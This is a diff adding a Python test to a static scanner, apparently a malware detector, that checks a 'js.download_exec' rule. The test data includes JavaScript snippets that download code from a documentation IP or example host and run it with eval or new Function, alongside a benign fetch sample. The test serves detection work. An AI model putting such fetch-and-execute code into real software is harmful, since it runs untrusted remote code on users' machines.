@@ -256,3 +256,19 @@ def test_computed_module_and_global_names_are_folded() -> None:
     found = _rule({"a.mjs": source}, "js.obfuscated_require")
     assert {f.line for f in found} == {1, 2, 4}
     assert "'child_process'" in found[0].message
+
+
+def test_code_evaluated_from_a_response_is_download_exec() -> None:
+    source = (
+        "const https = require('https');\n"
+        "https.get('https://198.51.100.3/p.js', r => { let d = '';\n"
+        "  r.on('data', c => d += c); r.on('end', () => eval(d)); });\n"
+        "async function up() { const res = await fetch('https://cdn.example.io/x.js');\n"
+        "  const code = await res.text(); new Function(code)(); }\n"
+    )
+    assert {f.line for f in _rule({"a.js": source}, "js.download_exec")} == {3, 5}
+    honest = (
+        "fetch('https://api.example.io/data').then(r => r.json())\n"
+        "  .then(j => console.log(JSON.parse(JSON.stringify(j))));\n"
+    )
+    assert not _rule({"b.js": honest}, "js.download_exec")
